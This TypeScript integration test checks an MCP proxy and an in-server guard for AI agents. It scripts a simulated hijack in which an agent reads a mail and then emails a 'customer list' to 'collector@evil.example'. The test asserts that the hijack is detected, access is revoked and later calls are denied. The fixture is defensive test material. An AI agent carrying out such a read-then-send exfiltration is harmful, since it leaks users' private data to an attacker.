/**
 * A client and a server of the MCP SDK, unchanged: through the library's proxy, and with the library's
 * guard inside the server. From what stands there alone the calls are seen with arguments and results,
 * the hijack is found, the access is taken by policy, and the next call is denied.
 */
import { existsSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { until } from '../support/until.ts';
import {
  type Environment,
  hasLiveClients,
  type Listening,
  runClient,
  startClient,
} from './live-clients.ts';
import { LiveWorld } from './live-world.ts';

const LONG_MS = 240_000;
const STOLEN = { to: 'collector@evil.example', subject: 'customer list', body: 'All of them.' };
const HIJACK = [
  ['read_mail', { id: 'm-666' }],
  ['send_email', STOLEN],
];
const LIBRARY = JSON.stringify({
  schemas: new URL('../../schemas/dist/index.js', import.meta.url).href,
  library: new URL('../../packages/revocation-consumer/dist/index.js', import.meta.url).href,
});

interface Place {
  readonly door: Listening;
  /** What reached the server. */
  readonly seen: () => number;
}

/** The two made with one SDK. */
interface Pair {
  readonly server: string;
  readonly client: string;
}

async function proxied(world: LiveWorld, { server }: Pair): Promise<Place> {
  const { upstream, seen } = await serverIn(world, server, {});
  const flags = ['--upstream', `${upstream.url}/mcp`, '--server', 'office'];
  return { door: await world.door('proxy', ...flags), seen };
}

async function guarded(world: LiveWorld, { server }: Pair): Promise<Place> {
  const { upstream, seen } = await serverIn(world, server, {
    ...{ GUARD: LIBRARY, WAYWARDEN: world.url, TOKEN: world.token },
    ...{ KEY: world.at('gate.json'), STATE: world.at('guard.state.json') },
  });
  return { door: upstream, seen };
}

async function serverIn(world: LiveWorld, script: string, env: Environment) {
  const file = world.at('seen.ndjson');
  const started = await startClient(script, world.folder, { ...env, SEEN: file });
  const seen = () => (existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n').length : 0);
  return { upstream: world.keep(started), seen };
}

const FIRST: Pair = { server: 'mcp-http-server.mjs', client: 'mcp-client.mjs' };
const SECOND: Pair = { server: 'mcp2-http-server.mjs', client: 'mcp2-client.mjs' };
const DOORS = [
  ['SDK 1.x, with the proxy', proxied, FIRST],
  ['SDK 1.x, with the guard in the server', guarded, FIRST],
  ['SDK 2.x, with the proxy', proxied, SECOND],
  ['SDK 2.x, with the guard in the server', guarded, SECOND],
] as const;

describe.skipIf(!hasLiveClients).each(DOORS)('client and server of MCP %s', (_, place, pair) => {
  const agent = 'agent/mail-client';
  const world = new LiveWorld();
  let at: Place;

  async function calls(...made: readonly unknown[]): Promise<readonly Record<string, unknown>[]> {
    const env = { URL: at.door.url, AGENT: agent, TASK: 'morning', CALLS: JSON.stringify(made) };
    const { code, stdout, stderr } = await runClient(pair.client, world.folder, env);
    if (code !== 0) throw new Error(`the client ended with ${code}: ${stderr}`);
    return stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
  }

  beforeAll(async () => {
    await world.open(agent);
    at = await place(world, pair);
  }, LONG_MS);

  afterAll(() => world.close(), LONG_MS);

  it(
    'calls are seen, the hijack is found, and the next call is denied',
    async () => {
      const [tools, read, sent] = await calls(...HIJACK);
      expect(tools).toEqual({ tools: ['read_mail', 'send_email'] });
      expect([read, sent]).toMatchObject([{ isError: false }, { isError: false }]);
      expect(await world.eventsOf(agent, 2)).toMatchObject([
        {
          ...{ tool: { server: 'office', name: 'read_mail' }, outcome: 'success' },
          ...{ args: { shape: ['id:string'] }, result: { trust: 'untrusted' } },
        },
        {
          ...{ tool: { server: 'office', name: 'send_email' }, outcome: 'success' },
          args: { shape: ['body:string', 'subject:string', 'to:string'] },
        },
      ]);
      await world.alertOf(agent, 'hijack_suspected');
      await until(async () => at.door.lines.find((line) => line.endsWith(': applied')), 60_000);
      const [, denied] = await calls(['read_mail', { id: 'm-1' }]);
      expect(denied).toMatchObject({ code: -32_001, data: { error: 'access_revoked' } });
      expect(at.seen()).toBe(2);
      const contained = await until(async () => {
        const one = await world.containment(agent);
        return one?.denied ? one : undefined;
      }, 60_000);
      expect(contained).toMatchObject({ state: 'confirmed', denied: { by_order: true } });
    },
    LONG_MS,
  );
});
